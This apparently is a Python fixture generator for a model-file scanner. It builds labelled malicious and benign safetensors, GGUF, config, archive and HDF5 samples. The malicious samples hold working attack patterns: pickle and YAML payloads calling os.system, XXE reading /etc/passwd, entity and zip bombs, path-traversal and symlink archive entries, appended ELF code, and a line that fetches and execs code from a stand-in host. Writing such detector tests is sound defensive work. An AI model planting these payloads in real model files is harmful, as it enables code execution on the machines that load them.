"""Files whose numbers lie about their bytes, configurations and archives that lead elsewhere; and ones that do not."""
import io
import json
import struct
import tarfile
import zipfile

import wire

ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 0x1040, 64, 0, 0, 64, 56, 1, 64, 0, 0) + \
    struct.pack("<IIQQQQQQ", 1, 5, 0, 0, 0, 4096, 4096, 4096) + bytes(256)


def f32(n, begin=0, **more):
    return {"dtype": "F32", "shape": [n], "data_offsets": [begin, begin + 4 * n], **more}


def safetensors():
    good, s = bytes(range(32)), wire.safetensors
    yield "overlap", "malicious", s({"a": f32(8), "b": f32(4, 8)}, good)
    yield "outside", "malicious", s({"a": f32(4096)}, good)
    yield "hole", "malicious", s({"a": f32(4), "b": f32(2, 24)}, good)
    yield "behind", "malicious", s({"a": f32(4)}, good + ELF)
    yield "shape", "malicious", s({"a": {"dtype": "F32", "shape": [1 << 40, 1 << 40], "data_offsets": [0, 32]}}, good)
    yield "less", "malicious", s({"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 32]}}, good)
    yield "backward", "malicious", s({"a": {"dtype": "F32", "shape": [8], "data_offsets": [32, 0]}}, good)
    yield "twice", "malicious", s(b'{"a":{"dtype":"F32","shape":[8],"data_offsets":[0,32]},"a":{"dtype":"I64","shape":[4],'
                                  b'"data_offsets":[0,32]}}', good)
    yield "length", "malicious", s({"a": f32(8)}, good, 1 << 60)
    yield "negative", "malicious", s({"a": {"dtype": "F32", "shape": [-8], "data_offsets": [0, 32]}}, good)
    yield "program", "malicious", s({"a": {"dtype": "U8", "shape": [len(ELF)], "data_offsets": [0, len(ELF)]}}, ELF)
    yield "zip-behind", "malicious", s({"a": f32(8)}, good) + wire.zipped([("data.pkl", b"cos\nsystem\n(S'id'\ntR.")])
    yield "plain", "benign", s({"a": f32(8)}, good)
    yield "empty", "benign", s({"a": f32(8), "z": {"dtype": "F32", "shape": [0, 4], "data_offsets": [32, 32]}}, good)
    yield "foreign", "benign", s({"__metadata__": {"title": "Größe 模型 🙂", "note": "online config = yes"}, "a": f32(8)}, good)
    yield "spaces", "benign", s(json.dumps({"a": f32(8)}).encode() + b"   ", good)
    yield "scalar", "benign", s({"a": {"dtype": "F32", "shape": [], "data_offsets": [0, 4]}}, good[:4])
    yield "types", "benign", s({"a": {"dtype": "BF16", "shape": [4], "data_offsets": [0, 8]}, "b": {"dtype": "I64", "shape": [3],
                                "data_offsets": [8, 32]}, "__metadata__": {"format": "pt"}}, good)
    yield "license", "benign", s({"__metadata__": {"license": "apache-2.0", "eval": "os.system is a word"}, "a": f32(8)}, good)


def gguf():
    g = wire.gguf
    yield "counts", "malicious", g([], counts=(1, 1 << 61))
    yield "tensors", "malicious", g([], counts=(1 << 60, 2))
    yield "dims", "malicious", g([], [("w", [1 << 33, 1 << 33], 0, 0)])
    yield "rank", "malicious", g([], [("w", [1] * 60, 0, 0)])
    yield "type", "malicious", g([], [("w", [8], 4000, 0)])
    yield "outside", "malicious", g([], [("w", [8], 0, 1 << 40)])
    yield "overlap", "malicious", g([], [("a", [8], 0, 0), ("b", [8], 0, 0)])
    yield "align", "malicious", g([("general.alignment", 3)])
    yield "align-zero", "malicious", g([("general.alignment", 0)])
    yield "twice", "malicious", g([("llama.block_count", 1), ("llama.block_count", 2)])
    yield "long-string", "malicious", g([("x", struct.pack("<IQ", 8, 1 << 62) + b"x")])
    yield "long-array", "malicious", g([("x", struct.pack("<IIQ", 9, 8, 1 << 61))])
    yield "value-type", "malicious", g([("x", struct.pack("<I", 77))])
    yield "behind", "malicious", g([]) + ELF * 2
    yield "escape-key", "malicious", g([("../../etc/cron.d/x", "* * * * *")])
    yield "plain", "benign", g([("llama.block_count", 1), ("tokenizer.ggml.tokens", ["<s>", "eval(", "os.system"])])
    yield "big", "benign", g([("llama.block_count", 1)], big=True)
    yield "align-64", "benign", g([("general.alignment", 64)], align=64)
    yield "two", "benign", g([], [("a", [8], 0, 0), ("b", [4, 2], 0, 32)], bytes(64))
    yield "url", "benign", g([("general.source.url", "https://models.example/a"), ("general.license", "mit")])
    yield "quantised", "benign", g([], [("w", [32], 2, 0)], bytes(18) + bytes(14))


def configs():
    j = lambda v: json.dumps(v).encode()
    yield "config.json", "malicious", j({"model_type": "x", "auto_map": {"AutoModel": "other/repo--modeling.Net"}})
    yield "model_index.json", "malicious", j({"_class_name": "P", "unet": ["os", "system"]})
    yield "tokenizer_config.json", "malicious", j({"auto_map": {"AutoTokenizer": ["other/repo--tok.T", None]}})
    yield "adapter_config.json", "malicious", j({"auto_mapping": {"parent_library": "subprocess", "base_model_class": "Popen"}})
    yield "model.safetensors.index.json", "malicious", j({"weight_map": {"a": "../../secret.safetensors"}})
    yield "model.safetensors.index.json", "malicious", j({"weight_map": {"a": "/srv/models/x.safetensors"}})
    yield "pytorch_model.bin.index.json", "malicious", j({"weight_map": {"a": "..\\..\\x.bin"}})
    yield "modules.json", "malicious", j([{"idx": 0, "name": "0", "path": "", "type": "os.system"}])
    yield "MANIFEST.json", "malicious", j({"model": {"handler": "../../x.py", "serializedFile": "w.pt", "modelName": "m"}})
    yield "manifest.json", "malicious", j([{"Config": "c.json", "Layers": ["/srv/layer.tar"]}])
    yield "manifest.json", "malicious", j([{"Config": "c.json", "Layers": ["../../layer.tar"]}])
    yield "schema.json", "malicious", j({"__class__": "f", "__module__": "os", "__loader__": "FunctionNode", "content": {"module_path": "os",
                                        "function": "system"}, "_skops_version": "0.10"})
    yield "schema.json", "malicious", j({"__class__": "attrgetter", "__module__": "builtins", "__loader__": "OperatorFuncNode", "attrs": {},
                                        "content": {}, "_skops_version": "0.10"})
    yield "config.yaml", "malicious", b"model:\n  _target_: subprocess.check_output\n  args: [id]\n"
    yield "config.yaml", "malicious", b"a: !!python/object/new:os.system [id]\n"
    yield "config.yaml", "malicious", b"%TAG !y! tag:yaml.org,2002:python/\n---\na: !y!object/apply:os.system [id]\n"
    yield "model_config.yaml", "malicious", b"encoder:\n  _target_: builtins.eval\n  _args_: ['1']\n"
    yield "MLmodel", "malicious", b"flavors:\n  python_function:\n    loader_module: os\n    python_version: 3.11\n"
    yield "model.pmml", "malicious", (b'<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                                      b'<PMML version="4.4"><Header>&x;</Header></PMML>')
    bomb = b"".join(b'<!ENTITY e%d "%s">' % (n, b"&e%d;" % (n - 1) * 10) for n in range(1, 10))
    yield "model.pmml", "malicious", (b'<?xml version="1.0"?><!DOCTYPE P [<!ENTITY e0 "words words">' + bomb + b']><PMML version="4.4">'
                                      b'<Header>&e9;</Header></PMML>')
    yield "modeling_x.py", "malicious", b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\nclass Net: pass\n"
    yield "modeling_x.py", "malicious", b"import os\nos.system('touch palisade-ran')\nclass Net: pass\n"
    yield "tokenization_x.py", "malicious", b"import urllib.request as u\nexec(u.urlopen('http://palisade-ran.invalid/x').read())\n"
    yield "config.json", "benign", j({"model_type": "llama", "architectures": ["LlamaForCausalLM"], "hidden_size": 8, "torch_dtype": "bfloat16"})
    yield "generation_config.json", "benign", j({"bos_token_id": 1, "temperature": 0.7})
    yield "tokenizer_config.json", "benign", j({"tokenizer_class": "PreTrainedTokenizerFast", "added_tokens_decoder": {"0": {"content": "<s>"}}})
    yield "model.safetensors.index.json", "benign", j({"metadata": {"total_size": 64}, "weight_map": {"a": "model-00001-of-00002.safetensors"}})
    yield "modules.json", "benign", j([{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}])
    yield "model_index.json", "benign", j({"_class_name": "StableDiffusionPipeline", "unet": ["diffusers", "UNet2DConditionModel"]})
    yield "adapter_config.json", "benign", j({"peft_type": "LORA", "base_model_name_or_path": "meta/x", "r": 8, "target_modules": ["q_proj"]})
    yield "preprocessor_config.json", "benign", j({"image_processor_type": "CLIPImageProcessor", "size": {"height": 224}})
    yield "config.yaml", "benign", b"model:\n  _target_: torch.nn.Linear\n  in_features: 4\n  out_features: 2\n"
    yield "config.yaml", "benign", b"trainer:\n  max_epochs: 3\n  note: 'eval is a word'\n"
    yield "MLmodel", "benign", b"flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n"
    yield "schema.json", "benign", j({"__class__": "LogisticRegression", "__module__": "sklearn.linear_model._logistic", "__loader__": "ObjectNode",
                                     "content": {}, "_skops_version": "0.10"})
    yield "vocab.txt", "benign", b"[PAD]\n[UNK]\nimport\nos\nsystem\neval\n"
    yield "merges.txt", "benign", b"#version: 0.2\ne v\nev al\no s\n"
    yield "modeling_x.py", "benign", (b"import math\nimport torch\nfrom torch import nn\n\n\nclass Net(nn.Module):\n    def forward(self, x):\n"
                                      b"        return torch.nn.functional.gelu(x) * math.sqrt(2.0)\n")
    yield "model.pmml", "benign", (b'<?xml version="1.0"?><PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header copyright="x"/>'
                                   b'<DataDictionary/></PMML>')


def link(target):
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode="w") as t:
        i = tarfile.TarInfo("weights.bin")
        i.type, i.linkname = tarfile.SYMTYPE, target
        t.addfile(i)
    return b.getvalue()


def archives():
    p = b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x12touch palisade-ran\x85R."
    z, t = wire.zipped, wire.tarred
    yield "up.zip", "malicious", z([("../../evil.txt", b"x")])
    yield "root.zip", "malicious", z([("/etc/cron.d/x", b"x")])
    yield "back.zip", "malicious", z([("..\\..\\evil.txt", b"x")])
    yield "up.tar", "malicious", t([("../../evil.txt", b"x")])
    yield "root.tar", "malicious", t([("/etc/cron.d/x", b"x")])
    yield "link.tar", "malicious", link("/etc/passwd")
    yield "link-up.tar", "malicious", link("../../../etc/passwd")
    yield "deep.zip", "malicious", z([("a.zip", z([("b.tar", t([("c.zip", z([("model.pkl", p)]))]))]))])
    yield "bomb.zip", "malicious", z([("w.bin", bytes(60_000_000))], zipfile.ZIP_DEFLATED)
    yield "program.zip", "malicious", z([("lib/x.so", ELF)])
    yield "front.zip", "malicious", p + z([("a.txt", b"x")])
    yield "image.png", "malicious", b"\x89PNG\r\n\x1a\n" + bytes(64) + z([("data.pkl", p)])
    yield "plain.zip", "benign", z([("model/weights.bin", bytes(64)), ("model/config.json", b"{}")])
    yield "plain.tar", "benign", t([("model/weights.bin", bytes(64)), ("README.md", b"# a model\n")])
    yield "packed.zip", "benign", z([("a/b/c.txt", b"some words\n" * 9)], zipfile.ZIP_DEFLATED)
    yield "inner.zip", "benign", z([("a.tar.gz", wire.tar_gz([("x.txt", b"words\n")]))])


def links():
    """HDF5 whose data lie in another file: only where h5py is installed."""
    try:
        import h5py
        import numpy
    except ImportError:
        return
    for name in ("external", "link", "virtual", "plain", "filters"):
        b = io.BytesIO()
        with h5py.File(b, "w") as f:
            if name == "external":
                f.create_dataset("d", (4,), "u1", external=[("/etc/hostname", 0, 4)])
            elif name == "link":
                f["d"] = h5py.ExternalLink("../../secret.h5", "/d")
            elif name == "virtual":
                v = h5py.VirtualLayout(shape=(4,), dtype="u1")
                v[:] = h5py.VirtualSource("/var/tmp/other.h5", "d", shape=(4,))
                f.create_virtual_dataset("d", v)
            else:
                f.create_dataset("d", data=numpy.arange(64, dtype="f4"), compression="gzip" if name == "filters" else None)
        yield name + ".h5", "benign" if name in ("plain", "filters") else "malicious", b.getvalue()


def samples(rng):
    del rng
    for n, (name, label, b) in enumerate(safetensors()):
        yield "safetensors-%s.safetensors" % name, b, label, "layout", None
    for n, (name, label, b) in enumerate(gguf()):
        yield "gguf-%s.gguf" % name, b, label, "layout", None
    for n, (name, label, b) in enumerate(configs()):
        yield "config-%d--%s" % (n, name), b, label, "config", None
    for name, label, b in archives():
        yield "archive-%s" % name, b, label, "archive", None
    for name, label, b in links():
        yield "hdf5-%s" % name, b, label, "path", None
